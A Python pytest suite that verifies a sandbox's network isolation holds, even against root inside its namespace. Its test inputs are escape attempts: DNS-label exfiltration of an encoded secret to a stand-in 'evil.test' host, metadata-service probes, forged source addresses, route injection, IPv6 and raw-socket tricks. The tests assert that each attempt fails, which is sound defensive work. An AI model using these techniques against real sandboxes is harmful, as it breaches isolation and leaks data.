"""Ways out of a network policy: those of a function, and those of one that had root in its own network namespace.

What holds is on the host's side, so it must hold against the latter too: whatever is changed inside a sandbox's namespace
(addresses, routes, IPv6, raw packets), nothing else passes.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from functools import partial

import anyio
import anyio.to_thread
import pytest

from constellation.comet.namespace.settings import NamespaceSettings
from constellation.nova.domain.network import Egress
from constellation.testing.sandboxes import running_backend
from tests.integration.namespace.calls import allow, asking
from tests.integration.namespace.internet import (
    API,
    DATABASE,
    GATEWAY,
    HOST,
    METADATA,
    OPEN_RESOLVER,
    OTHER,
    RESOLVER,
    on_a_host,
)

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox, pytest.mark.slow]

NO_ROUTE = "OSError No route to host"
API_ALONE = allow({"host": "api.example.org", "ports": (443,)})
INTERNET = allow(egress=Egress.INTERNET)

QUESTION = """
import socket, struct
def asked(name, kind=1, server="127.0.0.1"):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.settimeout(3)
        wire.connect((server, 53))
        wire.send(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1))
        answer = wire.recv(512)
    return [answer[3] & 15, int.from_bytes(answer[6:8])]
"""


@pytest.fixture(scope="module")
def internet(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("only root makes networks")
    with on_a_host(tmp_path_factory.mktemp("internet")) as internet:
        yield internet


@pytest.fixture(scope="module")
async def wired(internet, tmp_path_factory):
    settings = NamespaceSettings(
        run_dir=tmp_path_factory.mktemp("backend") / "run",
        group="none",
        use_cgroups=False,
        resolv_conf=internet.resolv_conf,
    )
    async with running_backend(settings) as backend:
        if backend.support().egress_reason:
            pytest.skip(backend.support().egress_reason)
        yield backend


@pytest.fixture
def heard(internet):
    """What the name server was asked, and the services were, since the test began."""
    internet.asked.clear()
    internet.served.clear()
    return internet


async def as_root(one, source: str) -> str:
    """Run a program as root in the network namespace of a sandbox; return what it printed, or how it failed."""
    words = ["nsenter", f"--net=/proc/{one.instance.pid}/ns/net", sys.executable, "-c", source]
    run = partial(subprocess.run, words, capture_output=True, text=True, timeout=60, check=False)
    done = await anyio.to_thread.run_sync(run)
    return done.stdout.strip() or done.stderr.strip().splitlines()[-1]


@pytest.mark.parametrize("policy", [API_ALONE, INTERNET], ids=["allow-list", "internet"])
async def test_the_host_its_network_and_the_metadata_service_are_out_of_reach(wired, heard, tmp_path, policy):
    async with asking(wired, tmp_path, policy) as one:
        said = await one.reach(
            (HOST, 8080), (GATEWAY, 80), (METADATA, 80), (DATABASE, 5432), ("198.19.0.0", 80), ("198.18.0.2", 80),
            ("255.255.255.255", 80, "udp"), ("224.0.0.1", 80, "udp"),
        )  # fmt: skip
    assert all(each.startswith(("OSError", "PermissionError", "TimeoutError")) for each in said), said
    assert heard.served == []


async def test_no_policy_opens_the_host_itself(wired, heard, tmp_path):
    async with asking(wired, tmp_path, allow({"cidr": "192.0.2.0/24"}, egress=Egress.INTERNET)) as one:
        assert await one.reach((HOST, 8080)) == [NO_ROUTE]
    assert heard.served == []


async def test_other_sandboxes_are_out_of_reach(wired, tmp_path):
    serve = (
        "import socket\n"
        "probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect(('1.2.3.4', 443))\n"
        "globals()['held'] = socket.create_server(('0.0.0.0', 8080))\n"
        "import builtins; builtins.held = held\n"
        "result = probe.getsockname()[0]\n"
    )
    async with asking(wired, tmp_path, INTERNET) as one, asking(wired, tmp_path, INTERNET, tenant="bob") as other:
        theirs = await other.run(serve)
        assert await other.reach((theirs, 8080)) == ["TimeoutError"]  # it listens, and says nothing
        assert await one.reach((theirs, 8080)) == [NO_ROUTE]
        assert await as_root(one, f"import socket; socket.create_connection(('{theirs}', 8080), timeout=2)") == (
            "OSError: [Errno 113] No route to host"
        )


@pytest.mark.parametrize("policy", [API_ALONE, INTERNET], ids=["allow-list", "internet"])
async def test_no_other_name_server_answers(wired, heard, tmp_path, policy):
    async with asking(wired, tmp_path, policy) as one:
        assert await one.reach((OPEN_RESOLVER, 53), (OPEN_RESOLVER, 853), (OPEN_RESOLVER, 53, "udp")) == [NO_ROUTE] * 3
        assert await one.reach((RESOLVER, 53, "udp")) == [NO_ROUTE]
    assert heard.asked == []


async def test_names_over_https_need_an_address_that_was_resolved(wired, heard, tmp_path):
    async with asking(wired, tmp_path, API_ALONE) as one:
        assert await one.reach((OPEN_RESOLVER, 443), (API, 443)) == [NO_ROUTE, NO_ROUTE]  # not even the allowed one's
        assert await one.reach(("api.example.org", 443), (API, 443)) == [f"{API}:443"] * 2
    assert heard.served == [(f"{API}:443", HOST)] * 2


async def test_nothing_leaves_by_the_letters_of_a_name(wired, heard, tmp_path):
    async with asking(wired, tmp_path, API_ALONE) as one:
        refused = await one.run(
            QUESTION + "result = [asked(name) for name in "
            "('c2VjcmV0.evil.test', 'c2VjcmV0.api.example.org', 'api.example.org.evil.test', 'example.org')]"
        )
        assert refused == [[5, 0]] * 4
        other_kinds = await one.run(
            QUESTION + "result = [asked('api.example.org', kind) for kind in (16, 28, 255, 15)]"
        )
        assert other_kinds == [[0, 0]] * 4  # TXT, AAAA, ANY, MX: nobody is asked for them
        assert await one.run(QUESTION + "result = asked('api.example.org')") == [0, 1]
    assert heard.asked in ([("api.example.org", "A")], [])  # the latter when it is remembered


async def test_names_do_not_lead_inside(wired, heard, tmp_path):
    network = allow({"host": "*.example.org"})
    names = ("rebound.example.org", "inside.example.org", "self.example.org")
    for policy in (network, INTERNET):
        async with asking(wired, tmp_path, policy) as one:
            assert await one.reach(*((name, 80) for name in names)) == ["no name"] * 3
            assert await one.run("import socket; result = socket.gethostbyname_ex('mixed.example.org')[2]") == [API]
    assert heard.served == []


async def test_a_name_that_turns_inside_later_is_refused_then(wired, heard, tmp_path):
    heard.ttl_s, heard.names["turning.example.org"] = 0, [API]
    async with asking(wired, tmp_path, allow({"host": "turning.example.org"}, {"host": "db.example.org"})) as one:
        assert await one.reach(("turning.example.org", 443)) == [f"{API}:443"]
        heard.names["turning.example.org"] = [METADATA]
        assert await one.reach(("turning.example.org", 80)) == ["no name"]
    heard.ttl_s = 60


async def test_a_private_address_behind_a_name_needs_its_network_allowed(wired, heard, tmp_path):
    network = allow({"host": "inside.example.org"}, {"cidr": "10.1.0.0/16", "ports": (5432,)})
    async with asking(wired, tmp_path, network) as one:
        assert await one.reach(("inside.example.org", 5432), ("inside.example.org", 22)) == [
            f"{DATABASE}:5432",
            NO_ROUTE,
        ]
    async with asking(wired, tmp_path, allow({"cidr": "0.0.0.0/0"}, {"host": "inside.example.org"})) as one:
        assert await one.reach((DATABASE, 22), ("inside.example.org", 22), (OTHER, 443)) == [
            NO_ROUTE, "no name", f"{OTHER}:443",
        ]  # fmt: skip


async def test_a_function_changes_nothing_of_its_network(wired, tmp_path):
    tries = {
        "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
        "route": "fcntl.ioctl(wire, 0x890B, bytes(120))",
        "address": "fcntl.ioctl(wire, 0x8916, struct.pack('16sHH4s8x', b'eth0', 2, 0, bytes([9, 9, 9, 9])))",
        "down": "fcntl.ioctl(wire, 0x8914, struct.pack('16sH14x', b'eth0', 0))",
        "transparent": "wire.setsockopt(socket.SOL_IP, 19, 1)",
        "mark": "wire.setsockopt(socket.SOL_SOCKET, 36, 1)",
        "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "ping": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
        "packet": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
        "name server": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53))",
        "sysctl": "open('/proc/sys/net/ipv6/conf/eth0/disable_ipv6', 'w').write('0')",
        "ipv6": "socket.socket(socket.AF_INET6).connect(('2001:db8::1', 443))",
    }
    source = "import fcntl, socket, struct\nwire = socket.socket(socket.AF_INET)\nresult = {}\n"
    for name, attempt in tries.items():
        source += f"try:\n    {attempt}\n    result[{name!r}] = 'done'\nexcept OSError as error:\n    result[{name!r}] = error.errno\n"
    async with asking(wired, tmp_path, INTERNET) as one:
        said = await one.run(source)
    assert set(said) == set(tries)
    assert "done" not in said.values(), said


FORGED = """
import socket, subprocess
subprocess.run(["ip", "address", "add", "{source}/32", "dev", "eth0"], check=True)
with socket.socket() as wire:
    wire.settimeout(2)
    wire.bind(("{source}", 0))
    wire.connect(("{target}", 443))
"""


async def test_a_forged_source_is_nobodys(wired, heard, tmp_path):
    source = "import socket\nwire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwire.connect(('1.2.3.4', 443))\nresult = wire.getsockname()[0]"
    async with asking(wired, tmp_path, INTERNET) as other, asking(wired, tmp_path, INTERNET) as one:
        theirs = await other.run(source)
        for forged in (theirs, "9.9.9.9", HOST):
            assert "imed out" in await as_root(one, FORGED.format(source=forged, target=API)), forged
        assert await one.reach((API, 443)) == [f"{API}:443"]  # its own still is its own
    assert heard.served == [(f"{API}:443", HOST)]


async def test_other_routes_lead_nowhere(wired, heard, tmp_path):
    source = f"""
import subprocess, socket, json
subprocess.run("ip link add side type dummy; ip link set side up; ip route add {METADATA}/32 dev eth0;"
               "ip route add {DATABASE}/32 via $(ip -o route show default | cut -d' ' -f3); ip neigh add {METADATA} lladdr "
               "$(ip -o neigh show dev eth0 | head -1 | cut -d' ' -f3) dev eth0", shell=True, capture_output=True)
said = []
for place in (("{METADATA}", 80), ("{DATABASE}", 5432), ("{HOST}", 8080)):
    try:
        socket.create_connection(place, timeout=2)
        said.append("reached")
    except OSError as error:
        said.append("refused")
print(json.dumps(said))
"""
    async with asking(wired, tmp_path, API_ALONE) as one:
        assert json.loads(await as_root(one, source)) == ["refused"] * 3
    assert heard.served == []


async def test_ipv6_goes_nowhere_even_when_it_is_switched_on(wired, heard, tmp_path):
    source = """
import socket, subprocess, time
open("/proc/sys/net/ipv6/conf/eth0/disable_ipv6", "w").write("0")
subprocess.run("ip -6 address add fd00:1::2/64 dev eth0 nodad && ip -6 route add default dev eth0", shell=True, check=True)
said = []
for place in ("fd00:1::1", "2001:db8::1"):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as wire:
        wire.settimeout(2)
        try:
            wire.connect((place, 443))
            said.append("reached")
        except OSError:
            said.append("refused")
with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as wire:  # all nodes of the link
    wire.settimeout(1)
    wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
    wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
    wire.sendto(bytes([128, 0, 0, 0, 0, 1, 0, 1]), ("ff02::1", 0))
    try:
        while wire.recv(100)[0] != 129:
            pass
        said.append("reached")
    except OSError:
        said.append("refused")
print(said)
"""
    async with asking(wired, tmp_path, INTERNET) as one:
        assert await as_root(one, source) == "['refused', 'refused', 'refused']"


async def test_other_protocols_do_not_pass(wired, heard, tmp_path):
    source = f"""
import socket
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as wire:
    wire.settimeout(1)
    wire.sendto(bytes([8, 0, 0xf7, 0xfd, 0, 1, 0, 1]), ("{API}", 0))
    kind = wire.recv(100)[20]
    print("reached" if kind == 0 else "refused")
"""
    async with asking(wired, tmp_path, INTERNET) as one:
        assert await as_root(one, source) == "refused"


async def test_one_sandbox_holds_so_many_connections_and_no_more(wired, heard, tmp_path):
    source = (
        "import errno, socket\n"
        "question = bytes.fromhex('000701000001000000000000') + b'\\3api\\7example\\3org\\0\\0\\1\\0\\1'\n"
        "wires, result = [], None\n"
        "while result is None:\n"
        "    wires.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))\n"
        "    wires[-1].settimeout(5)\n"
        "    wires[-1].connect(('8.8.8.8', 53))\n"
        "    wires[-1].send(question)\n"
        "    try:\n"
        "        wires[-1].recv(512)\n"
        "    except OSError as error:\n"
        "        result = [len(wires), errno.errorcode[error.errno]]\n"
    )
    async with asking(wired, tmp_path, allow({"cidr": "8.8.8.8/32", "protocol": "udp", "ports": (53,)})) as one:
        assert await one.run(source) == [513, "EHOSTUNREACH"]


async def test_what_questions_are_made_of_harms_nobody(wired, heard, tmp_path):
    source = (
        QUESTION + "import os\n"
        "wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "wire.connect(('127.0.0.1', 53))\n"
        "for junk in (b'', b'x', bytes(12), bytes(600), b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1', os.urandom(300)):\n"
        "    wire.send(junk)\n"
        "result = asked('api.example.org')\n"
    )
    async with asking(wired, tmp_path, API_ALONE) as one:
        assert await one.run(source) == [0, 1]
